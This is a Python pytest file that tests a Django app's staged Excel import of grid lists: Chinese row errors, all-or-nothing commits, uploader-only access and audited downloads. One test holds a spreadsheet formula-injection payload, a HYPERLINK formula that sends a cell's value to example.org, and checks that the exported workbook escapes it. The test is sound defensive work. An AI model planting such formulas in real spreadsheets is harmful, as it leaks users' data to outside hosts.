"""The staged-import pipeline with a tiny importer of its own (tests/grid_importer.py):
row errors in Chinese with row and column, all or nothing, once, the uploader's only."""

import io

import pytest
import xlsxwriter
from django.core.exceptions import PermissionDenied, ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from python_calamine import CalamineWorkbook

from frontline.core.models import AuditEvent, Node, NodeKind
from frontline.core.services import node_create
from frontline.core.spreadsheets import UploadRejected
from frontline.core.staged_import.models import ImportStatus, StagedImport
from frontline.core.staged_import.pipeline import staged_commit, staged_preview
from frontline.core.tests.grid_importer import GridImporter
from frontline.people.imports import roster_preview
from frontline.people.tests.factories import id_number_next
from frontline.people.tests.rosters import HEADERS, xlsx_make

pytestmark = pytest.mark.urls("frontline.core.tests.grid_importer")

HEADER = ["网格名称", "户数", "备注"]


@pytest.fixture(autouse=True)
def _grid_importer_declared(monkeypatch):
    """The test importer's audit actions, as an app's manifest would declare them."""
    from frontline.core.registry import registry

    for verb in ("import", "errors_export"):
        monkeypatch.setitem(registry().audit_actions, f"core.grid.{verb}", "测试导入")


def xlsx(rows) -> SimpleUploadedFile:
    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer)
    sheet = book.add_worksheet()
    for r, row in enumerate(rows):
        for c, value in enumerate(row):
            sheet.write_string(r, c, value) if isinstance(value, str) else sheet.write(r, c, value)
    book.close()
    return SimpleUploadedFile("网格.xlsx", buffer.getvalue())


def preview(world, rows, user=None) -> StagedImport:
    return staged_preview(
        importer=GridImporter, actor=user or world.admin_sandian, upload=xlsx(rows)
    )


def commit(world, staged, user=None) -> StagedImport:
    return staged_commit(importer=GridImporter, actor=user or world.admin_sandian, staged=staged)


def workbook_rows(response) -> list[list]:
    data = b"".join(response.streaming_content)
    return CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()


def test_row_errors_name_the_row_and_the_column_in_chinese(world):
    staged = preview(
        world,
        [
            ["网格清单（三店村）"],  # a title row above the header
            HEADER,
            ["第二网格", 80, ""],
            ["", 40, ""],
            [],
            ["第三网格", "很多", ""],
            ["", "几户", ""],
        ],
    )
    assert (staged.total_rows, staged.new_count, staged.bad_count) == (4, 1, 3)
    assert [(e["row"], e["column"], e["message"]) for e in staged.errors] == [
        (4, "网格名称", "网格名称不能为空"),
        (6, "户数", "户数必须是整数"),
        (7, "网格名称", "网格名称不能为空"),
        (7, "户数", "户数必须是整数"),
    ]
    assert bytes(staged.payload) == b""  # nothing sealed to commit while rows are bad


def test_a_file_without_a_required_column_is_refused_naming_it(world):
    with pytest.raises(UploadRejected, match="找不到必需的列：网格名称"):
        preview(world, [["户数", "备注"], [3, ""]])
    assert not StagedImport.objects.exists()


def test_a_clean_preview_writes_nothing_until_committed_then_everything_once(world):
    before = Node.objects.count()
    staged = preview(world, [HEADER, ["第二网格", 80, ""], ["第三网格", 40, ""]])
    assert Node.objects.count() == before

    commit(world, staged)
    grids = world.sandian.children.filter(kind=NodeKind.GRID)
    assert sorted(grids.values_list("name", flat=True)) == ["第一网格", "第三网格", "第二网格"]
    staged.refresh_from_db()
    assert staged.status == ImportStatus.COMMITTED and bytes(staged.payload) == b""
    assert AuditEvent.objects.filter(action="core.grid.import", object_id=str(staged.pk)).count()

    with pytest.raises(ValidationError, match="这份网格清单已经导入过了"):
        commit(world, staged)
    assert Node.objects.count() == before + 2


def test_a_commit_that_fails_on_its_last_row_writes_none_of_them(world):
    before = Node.objects.count()
    staged = preview(world, [HEADER, ["第二网格", 80, ""], ["第三网格", 40, ""]])
    # Someone creates the second one between the preview and the commit.
    node_create(actor=None, kind=NodeKind.GRID, name="第三网格", parent=world.sandian)
    with pytest.raises(ValidationError):
        commit(world, staged)
    assert Node.objects.count() == before + 1
    assert not Node.objects.filter(name="第二网格").exists()
    staged.refresh_from_db()
    assert staged.status == ImportStatus.PREVIEW


def test_a_preview_with_bad_rows_is_never_committed(world):
    staged = preview(world, [HEADER, ["第二网格", 80, ""], ["", 1, ""]])
    with pytest.raises(ValidationError, match="还有 1 行有误"):
        commit(world, staged)
    assert not Node.objects.filter(name="第二网格").exists()


def test_only_the_uploader_commits_their_preview(world):
    staged = preview(world, [HEADER, ["第二网格", 80, ""]])
    with pytest.raises(PermissionDenied, match="只能确认自己上传的网格清单"):
        commit(world, staged, user=world.admin)
    assert not Node.objects.filter(name="第二网格").exists()


def test_a_new_upload_replaces_the_uploaders_pending_preview_of_that_kind_only(world):
    roster = roster_preview(
        actor=world.sandian_all, upload=xlsx_make([HEADERS, ["王芳", id_number_next()]])
    )
    first = preview(world, [HEADER, ["第二网格", 80, ""]], user=world.sandian_all)
    second = preview(world, [HEADER, ["第三网格", 80, ""]], user=world.sandian_all)
    assert set(StagedImport.objects.values_list("pk", flat=True)) == {roster.pk, second.pk}
    assert first.pk != second.pk


# ---------------------------------------------------------------- the pages


def test_the_pages_upload_preview_and_commit_for_a_declared_importer(world, login):
    client = login(world.admin_sandian)
    page = client.get(reverse("grids:grid_import_upload")).content.decode()
    assert "从 Excel 导入网格清单" in page and "网格清单文件（.xlsx 或 .csv）" in page

    response = client.post(
        reverse("grids:grid_import_upload"), {"file": xlsx([HEADER, ["第二网格", 80, ""]])}
    )
    staged = StagedImport.objects.get()
    assert response["Location"] == reverse("grids:grid_import_preview", args=[staged.pk])
    page = client.get(response["Location"]).content.decode()
    assert 'data-count="new">1<' in page and "确认导入" in page

    response = client.post(reverse("grids:grid_import_commit", args=[staged.pk]), follow=True)
    assert response.redirect_chain[0][0] == reverse("core:node_list")
    assert "已导入：新增 1 行" in response.content.decode()
    assert Node.objects.filter(name="第二网格", parent=world.sandian).exists()


def test_the_preview_page_lists_the_row_errors_and_offers_no_commit(world, login):
    staged = preview(world, [HEADER, ["第二网格", 80, ""], ["", "几户", ""]])
    page = login(world.admin_sandian).get(reverse("grids:grid_import_preview", args=[staged.pk]))
    text = page.content.decode()
    assert "没有写入任何数据" in text and "第 3 行" in text and "户数必须是整数" in text
    assert "确认导入" not in text


def test_the_template_has_the_labels_and_the_example_rows(world, login):
    response = login(world.admin_sandian).get(reverse("grids:grid_import_template"))
    assert workbook_rows(response)[:2] == [HEADER, ["第二网格", 120.0, ""]]


def test_the_error_workbook_is_formula_safe_and_its_download_audited(world, login):
    evil = '=HYPERLINK("http://example.org/?"&A1,"点此")'
    staged = preview(world, [HEADER, ["第二网格", 80, ""], ["", " " + evil, "-1+1"]])
    response = login(world.admin_sandian).get(reverse("grids:grid_import_errors", args=[staged.pk]))
    rows = workbook_rows(response)
    assert rows[0] == ["行号", "错误原因", *HEADER]
    assert rows[1][:2] == [3, "网格名称：网格名称不能为空；户数：户数必须是整数"]
    assert rows[1][3:] == ["'" + evil, "'-1+1"]  # the cells as read (trimmed), never run
    assert len(rows) == 2
    event = AuditEvent.objects.get(action="core.grid.errors_export")
    assert event.object_id == str(staged.pk) and event.fields == ["name"]


@pytest.mark.parametrize(
    ("page", "method"), [("preview", "get"), ("errors", "get"), ("commit", "post")]
)
def test_another_users_preview_is_404_even_to_an_admin_above(world, login, page, method):
    staged = preview(world, [HEADER, ["第二网格", 80, ""], ["", 1, ""]])
    url = reverse(f"grids:grid_import_{page}", args=[staged.pk])
    for user in (world.admin, world.admin_zhengyuan, world.cadre_sandian):
        assert getattr(login(user), method)(url).status_code == 404
    assert not AuditEvent.objects.filter(action__startswith="core.grid.").exists()


def test_a_user_without_the_permission_has_no_upload_page(world, login):
    client = login(world.cadre_sandian)
    assert client.get(reverse("grids:grid_import_upload")).status_code == 404
    assert client.get(reverse("grids:grid_import_template")).status_code == 404
